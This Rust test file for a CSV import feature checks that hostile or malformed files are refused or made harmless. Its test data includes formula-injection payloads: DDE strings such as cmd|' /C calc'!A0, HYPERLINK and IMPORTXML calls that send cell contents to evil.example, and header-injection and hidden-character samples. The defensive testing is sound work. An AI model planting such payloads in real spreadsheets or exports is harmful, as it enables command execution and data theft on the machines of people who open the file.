//! Hostile and broken files. Each is refused with a sentence, or neutralised: what is imported from it is harmless.

use domain::Sentence;
use import_file::{
    CheckSettings, FileError, ImportRow, Layout, Mapping, Outcome, Place, RowReader, check_rows, decode, limits,
    suggest,
};

/// What became of a file.
#[derive(Debug)]
enum Fate {
    /// Refused as a whole.
    File(FileError),
    /// Refused because of its columns, with the sentence.
    Columns(String),
    /// Read: rows to create, and the sentences about refused and skipped rows with their row numbers.
    Read(Vec<ImportRow>, Vec<(u32, String)>),
}

impl Fate {
    fn of(bytes: &[u8]) -> Self {
        let decoded = match decode(bytes) {
            Ok(decoded) => decoded,
            Err(error) => return Self::File(error),
        };
        let text = &decoded.text;
        let layout = match Layout::read(text) {
            Ok(layout) => layout,
            Err(error) => return Self::File(error),
        };
        let mapping = match Mapping::new(layout.header(), suggest(layout.header()).columns()) {
            Ok(mapping) => mapping,
            Err(errors) => return Self::Columns(errors.to_string()),
        };
        let (mut created, mut sentences) = (Vec::new(), Vec::new());
        let reader = RowReader::new(layout.header(), &mapping, CheckSettings::default());
        check_rows(text, &layout, &reader, |record, outcome| match outcome {
            Outcome::Create(row) => created.push(*row),
            Outcome::Skip(_, duplicate) => sentences.push((record.row(), duplicate.reason().as_str().to_owned())),
            Outcome::Refuse(errors) => sentences.extend(errors.iter().map(|error| (record.row(), error.to_string()))),
        })
        .unwrap();
        Self::Read(created, sentences)
    }

    /// The sentences, with the row of each that is about a row.
    fn sentences(&self) -> Vec<String> {
        match self {
            Self::File(error) => vec![error.to_string()],
            Self::Columns(sentence) => vec![sentence.clone()],
            Self::Read(_, sentences) => sentences
                .iter()
                .map(|(row, text)| format!("Row {row}: {text}"))
                .collect(),
        }
    }
}

/// All texts of what would be created.
fn texts(row: &ImportRow) -> Vec<String> {
    let details = serde_json::to_value(row.clone().profile_details()).unwrap();
    let mut texts = vec![
        row.email.to_string(),
        row.first_name.to_string(),
        row.last_name.to_string(),
    ];
    texts.extend(details.as_object().unwrap().values().flat_map(|value| {
        match value {
            serde_json::Value::String(text) => vec![text.clone()],
            serde_json::Value::Array(list) => list
                .iter()
                .filter_map(|text| text.as_str().map(str::to_owned))
                .collect(),
            _ => vec![],
        }
    }));
    texts
}

/// A file with a good first row and then this one, in which the last name is `cell`.
fn with_last_name(cell: &str) -> Vec<u8> {
    let cell = cell.replace('"', "\"\"");
    format!("email,first_name,last_name\ngood@example.com,Good,Row\nbad@example.com,Bad,\"{cell}\"\n").into_bytes()
}

fn zip(name: &str) -> Vec<u8> {
    let mut file = b"PK\x03\x04\x14\0\0\0\x08\0".to_vec();
    file.extend_from_slice(&[0; 20]);
    file.extend_from_slice(name.as_bytes());
    file.extend((0..2000_u32).flat_map(|n| n.wrapping_mul(2_654_435_761).to_le_bytes()));
    file
}

fn utf16(text: &str) -> Vec<u8> {
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    bytes
}

fn joined(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

/// Files by name, with a part of the expected sentence.
fn refused() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let head = "email,first_name,last_name\n";
    let file = |rest: &str| format!("{head}{rest}").into_bytes();
    let full = limits::MAX_BYTES - head.len();
    vec![
        // Files of other kinds.
        ("empty", vec![], "The file is empty"),
        ("a ZIP archive", zip("people.csv"), "looks like a ZIP archive"),
        (
            "an Excel workbook",
            zip("xl/workbook.xml"),
            "looks like an Excel workbook",
        ),
        (
            "a Word document",
            zip("word/document.xml"),
            "looks like a Word document",
        ),
        (
            "an OpenDocument table",
            zip("mimetypeapplication/vnd.oasis.opendocument.spreadsheet"),
            "looks like an OpenDocument file",
        ),
        (
            "an empty archive",
            b"PK\x05\x06\0\0\0\0".to_vec(),
            "looks like a ZIP archive",
        ),
        ("a PDF", b"%PDF-1.7\n1 0 obj\n".to_vec(), "looks like a PDF document"),
        (
            "an old workbook",
            b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0".to_vec(),
            "of an old Office version",
        ),
        (
            "gzip",
            b"\x1F\x8B\x08\0\0\0\0\0".to_vec(),
            "looks like a compressed file",
        ),
        (
            "a PNG",
            b"\x89PNG\r\n\x1A\n\0\0\0\rIHDR".to_vec(),
            "looks like a picture",
        ),
        ("a JPEG", b"\xFF\xD8\xFF\xE0\0\x10JFIF".to_vec(), "looks like a picture"),
        (
            "a web page",
            b"\xEF\xBB\xBF <!DOCTYPE html><table><tr><td>".to_vec(),
            "looks like a web page",
        ),
        (
            "an XML table",
            b"<?xml version=\"1.0\"?><Workbook>".to_vec(),
            "looks like an XML file",
        ),
        (
            "JSON",
            b"[{\"email\":\"a@example.com\"}]".to_vec(),
            "looks like a JSON file",
        ),
        (
            "rich text",
            b"{\\rtf1\\ansi email}".to_vec(),
            "looks like a Rich Text document",
        ),
        (
            "UTF-32",
            b"\xFF\xFE\0\0e\0\0\0m\0\0\0".to_vec(),
            "looks like a text in UTF-32",
        ),
        (
            "control characters",
            joined(&[head.as_bytes(), &[1, 2, 3, 4, 5, 6, 7, 8]]),
            "looks like a binary file",
        ),
        (
            "an executable",
            b"\x7FELF\x02\x01\x01\0".to_vec(),
            "looks like a binary file",
        ),
        // Bytes.
        (
            "a NUL byte",
            file("a@example.com,A\0,B\n"),
            "Row 2, column B: this cell contains a NUL character",
        ),
        (
            "only NUL bytes",
            vec![0; 1000],
            "Row 1, column A: this cell contains a NUL character",
        ),
        (
            "a NUL character in UTF-16",
            utf16("email,first_name\na@example.com,A\0\n"),
            "Row 2, column B: this cell contains a NUL",
        ),
        (
            "two encodings",
            joined(&[
                "email,first_name\nz@example.com,Zoé\na@example.com,Lom".as_bytes(),
                b"\xE9\n",
            ]),
            "Row 3, column B: this cell has a different encoding",
        ),
        (
            "a mark of UTF-8 before another encoding",
            joined(&[b"\xEF\xBB\xBFemail,name\na@example.com,Zo", b"\xE9\n"]),
            "Row 2, column B: this cell is not valid UTF-8",
        ),
        (
            "a lone surrogate",
            joined(&[&utf16("email\tname\na@example.com\tZo"), b"\x00\xDC", b"\n\0"]),
            "Row 2, column B: this cell is not valid UTF-16 LE",
        ),
        (
            "half a code unit",
            joined(&[&utf16("email\tname\na@example.com\tZo"), b"\n"]),
            "Row 2, column B: this cell is not valid UTF-16 LE",
        ),
        (
            "surrogates in UTF-8",
            joined(&[b"email,name\na@example.com,", b"\xED\xA0\x80\n"]),
            "Row 2, column B: this cell is not valid UTF-8",
        ),
        (
            "bytes without a character",
            joined(&[b"email,name\na@example.com,Zo\xE9 Th\xE9r\xE8se H\xE9l\xE8ne \x81\n"]),
            "Row 2, column B: this cell is not valid Windows-1252",
        ),
        // Structure.
        (
            "a byte too many",
            vec![b'x'; limits::MAX_BYTES + 1],
            "File size must be less than 10MB",
        ),
        ("blank rows only", b" ,\r\n\n;\t\r\n".to_vec(), "no rows below it"),
        (
            "line breaks only",
            vec![b'\n'; limits::MAX_BYTES],
            "The file contains no text.",
        ),
        (
            "a header only",
            file("\n,,\n"),
            "Row 1 is the header, and there are no rows below it.",
        ),
        (
            "an unclosed quotation mark",
            file("a@example.com,\"A,B\nb@example.com,C,D\n"),
            "Row 2, column B: the quotation mark",
        ),
        (
            "quotation marks only",
            joined(&[head.as_bytes(), &vec![b'"'; full - 1]]),
            "Row 2, column A: this cell has more than 10000 bytes",
        ),
        (
            "an odd number of quotation marks",
            joined(&[head.as_bytes(), &vec![b'"'; full]]),
            "Row 2, column A: the quotation mark",
        ),
        (
            "separators only",
            joined(&[head.as_bytes(), &vec![b','; full]]),
            "Row 2, column CW: a row has at most 100 columns",
        ),
        (
            "separators from the start",
            vec![b','; limits::MAX_BYTES],
            "Row 1, column CW: a row has at most 100 columns",
        ),
        (
            "one endless line",
            vec![b'a'; limits::MAX_BYTES],
            "Row 1, column A: this cell has more than 10000 bytes",
        ),
        (
            "one endless row",
            file(&format!("{}\n", vec!["x".repeat(5_000); 60].join(","))),
            "Row 2, column T: here the row reaches more than 100000 bytes",
        ),
        (
            "too many rows",
            file(&"a@example.com,A,B\n".repeat(50_001)),
            "Row 50002: a file has at most 50000 rows",
        ),
        // Columns.
        (
            "no header",
            b"a@example.com,Amina,Diallo\nb@example.com,Kofi,Mensah\n".to_vec(),
            "Choose the column for email.",
        ),
        (
            "another separator",
            b"email|first_name\na@example.com|Amina\n".to_vec(),
            "Choose the column for email.",
        ),
        (
            "a header of marks",
            b"\"\",'',--\nx,y,z\n".to_vec(),
            "Choose the column for email.",
        ),
        // Rows.
        (
            "cells without columns",
            file("a@example.com,A,B,C,D\n"),
            "Row 2: The row has 5 cells, but the header has 3",
        ),
        (
            "cells without end",
            file("a@example.com\nb@example.com,,\n"),
            "Row 2: first_name is required",
        ),
        (
            "the same address twice",
            file("a@example.com,A,B\nA@EXAMPLE.COM,C,D\n"),
            "Row 3: is a duplicate of row 2",
        ),
        (
            "a header in between",
            file("email,first_name,last_name\n"),
            "Row 2: email Please enter a valid email address",
        ),
        (
            "line breaks in a name",
            with_last_name("a\r\nBcc: b"),
            "Row 3: last_name must be one line",
        ),
        (
            "an escape character",
            with_last_name("a\u{1b}[31m"),
            "Row 3: last_name must be one line",
        ),
        (
            "a line separator",
            with_last_name("a\u{2028}b"),
            "Row 3: last_name must be one line",
        ),
        (
            "a lost character",
            with_last_name("a\u{fffd}"),
            "Row 3: last_name contains a character that was lost",
        ),
        (
            "too long a name",
            with_last_name(&"é".repeat(81)),
            "Row 3: last_name must be 0 to 80 characters long",
        ),
        (
            "an error of a spreadsheet",
            with_last_name("#DIV/0!"),
            "Row 3: last_name contains an error of the spreadsheet",
        ),
        (
            "an address with a line break",
            file("\"a@example.com\nBcc: b@example.com\",A,B\n"),
            "Row 2: email Please enter",
        ),
        (
            "an address that is a formula",
            file("=1+1@example.com,A,B\n"),
            "Row 2: email must not begin like a formula",
        ),
    ]
}

#[test]
fn each_hostile_file_is_refused_with_a_sentence_that_points_at_the_place() {
    let files = refused();
    assert!(files.len() >= 40);
    for (name, bytes, expected) in files {
        let sentences = Fate::of(&bytes).sentences();
        assert!(
            sentences.iter().any(|sentence| sentence.contains(expected)),
            "{name}: {sentences:?}"
        );
    }
}

/// Spellings of formulas that spreadsheets evaluate, or could after removing something.
fn formulas() -> Vec<String> {
    let bodies = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")",
        "SUM(A1:A9)*cmd|' /C calc'!A0",
        "IMPORTXML(\"https://evil.example\",\"//a\")",
    ];
    let starts = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "−"];
    let plain = starts
        .iter()
        .flat_map(|start| bodies.map(|body| format!("{start}{body}")));
    let before = [
        " ",
        "\t",
        "\n",
        "\r\n",
        "\u{a0}",
        "\u{3000}",
        "\u{200b}",
        "\u{feff}",
        "\u{202e}",
        "\u{2066}",
        "\u{ad}",
        "'",
        "\u{200f}'",
    ];
    let hidden = before.iter().map(|before| format!("{before}=1+1"));
    plain.chain(hidden).collect()
}

#[test]
fn formulas_in_sixty_spellings_are_refused_in_every_text_field() {
    let formulas = formulas();
    assert!(formulas.len() >= 60);
    for formula in formulas {
        for field in [
            "first_name",
            "last_name",
            "current_position",
            "current_company",
            "location",
            "skills",
            "bio",
        ] {
            let reasons = crate::fixture::reasons(&[(field, &formula)]);
            assert_eq!(
                reasons,
                [format!("{field} must not begin like a formula")],
                "{formula:?}"
            );
        }
    }
}

#[test]
fn control_characters_of_direction_and_zero_width_are_removed() {
    for hidden in ('\u{200b}'..='\u{200f}')
        .chain('\u{202a}'..='\u{202e}')
        .chain('\u{2066}'..='\u{2069}')
        .chain(['\u{feff}', '\u{61c}', '\u{ad}'])
    {
        let bytes = with_last_name(&format!("{hidden}Dia{hidden}llo{hidden}"));
        let Fate::Read(rows, sentences) = Fate::of(&bytes) else {
            panic!("{}", hidden.escape_unicode())
        };
        assert_eq!(sentences, []);
        let name = rows[1].last_name.as_str();
        // The two joiners are needed within words of Persian, Urdu and Indian languages.
        let is_joiner = matches!(hidden, '\u{200c}' | '\u{200d}');
        let expected = if is_joiner {
            format!("Dia{hidden}llo")
        } else {
            "Diallo".to_owned()
        };
        assert_eq!(name, expected, "{}", hidden.escape_unicode());
    }
    let row = crate::fixture::read(&[("bio", "Led \u{202e}evil\u{202c} teams\u{2066}")]).unwrap();
    assert_eq!(row.bio.as_deref(), Some("Led evil teams"));
}

#[test]
fn what_is_read_from_any_truncated_or_changed_file_is_harmless() {
    let text = "\u{feff}email;first_name;last_name;phone;linkedin_url;bio\r\n\
        a@example.com;Zoé;\"N’Gue\"\"ssan\";+254712345678;linkedin.com/in/zoe;\"- one\n- two\"\r\n\
        b@example.com;ليلى;الحسن;(+1) 202 555 0143;;=1+1\r\n";
    let utf16: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
    for bytes in [text.as_bytes(), &utf16] {
        for at in 0..bytes.len() {
            for change in [0, 1, b'"', b',', b'=', b'\n', 0x80, 0xD8, 0xE9, 0xFF] {
                let mut changed = bytes.to_vec();
                changed[at] = change;
                harmless(&changed);
            }
            harmless(&bytes[..at]);
            harmless(&bytes[at..]);
        }
    }
}

fn harmless(bytes: &[u8]) {
    match Fate::of(bytes) {
        Fate::File(error) => assert!(!Sentence::from(error).is_empty()),
        Fate::Columns(sentence) => assert!(!sentence.is_empty()),
        Fate::Read(rows, _) => {
            for text in rows.iter().flat_map(texts) {
                let is_control = |c: char| c.is_control() && c != '\n';
                assert!(!text.contains(is_control) && !text.starts_with(['=', '@']), "{text:?}");
            }
        }
    }
}

#[test]
fn a_place_is_a_row_and_the_letters_of_a_column() {
    assert_eq!(Place { row: 12, column: 27 }.to_string(), "row 12, column AB");
    assert_eq!(
        FileError::UnclosedQuote(Place::FIRST).place(),
        Some(Place { row: 1, column: 0 })
    );
    assert_eq!(FileError::Empty.place(), None);
}
